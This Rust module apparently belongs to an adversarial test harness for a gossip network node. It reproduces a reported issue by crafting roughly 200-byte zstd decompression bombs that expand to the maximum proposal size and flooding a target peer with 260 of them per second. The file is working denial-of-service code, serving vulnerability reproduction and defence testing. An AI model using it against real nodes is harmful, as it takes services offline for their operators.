//! One peer whose short frames become megabytes. Issue 8, 25.

use std::time::Duration;

use gossip::{Tag, wire::proposal::MAX_DECOMPRESSED};
use tokio::time::{self, MissedTickBehavior};

use super::{
    Tally, Target,
    flood::SOURCE,
    line::{Carrier, Ears, Line, again_and_again, write},
};

/// Thirteen frames in each, 260 a second. Source: issue 8, 25.
const TICK: Duration = Duration::from_millis(50);
const PER_TICK: u64 = 13;

/// Largest block of a zstd frame. Source: RFC 8878, 3.1.1.2.4.
const BLOCK_BYTES: usize = 128 * 1024;

const MAGIC: [u8; 4] = 0xfd2f_b528_u32.to_le_bytes();

/// No content size, no checksum; a window of 128 KiB. Source: RFC 8878, 3.1.1.1.
const HEADER: [u8; 2] = [0, 7 << 3];

/// Kinds of blocks. Source: RFC 8878, 3.1.1.2.2.
const RAW: usize = 0;
const RUN: usize = 1;

fn block(bytes: &mut Vec<u8>, kind: usize, content: usize, is_last: bool) {
    let header = u32::try_from(content << 3 | kind << 1).unwrap_or(0) | u32::from(is_last);
    bytes.extend_from_slice(&header.to_le_bytes()[..3]);
}

/// A zstd frame of some 200 bytes that holds the largest proposal: a number, then a run of one byte.
pub(super) fn bomb(number: u64) -> Vec<u8> {
    let mut bytes = [&MAGIC[..], &HEADER].concat();
    block(&mut bytes, RAW, 8, false);
    bytes.extend_from_slice(&number.to_le_bytes());
    let mut left = MAX_DECOMPRESSED - 8;
    while left > 0 {
        let content = left.min(BLOCK_BYTES);
        left -= content;
        block(&mut bytes, RUN, content, left == 0);
        bytes.push(b'x');
    }
    bytes
}

pub(super) async fn run(target: &Target, carrier: Carrier, tally: &Tally) {
    let dial = || Line::dial(target, carrier, SOURCE);
    again_and_again(dial, (tally, Ears::Open), |mut pen| async move {
        let mut ticks = time::interval(TICK);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        loop {
            ticks.tick().await;
            let mut bytes = Vec::new();
            let first = tally.sending(PER_TICK);
            for number in first..first + PER_TICK {
                carrier.put(Tag::PP, &bomb(number), &mut bytes);
            }
            write(&mut pen, &bytes).await?;
        }
    })
    .await;
}

#[cfg(test)]
mod tests {
    use gossip::wire::proposal::decompress;

    use super::*;

    #[test]
    fn a_bomb_is_short_and_becomes_the_largest_proposal() {
        let bomb = bomb(7);
        assert!(bomb.len() <= 200, "{} bytes", bomb.len());
        let body = decompress(&bomb.into(), MAX_DECOMPRESSED).unwrap();
        assert_eq!(body.len(), MAX_DECOMPRESSED);
        assert_eq!(body[..8], 7_u64.to_le_bytes());
    }
}
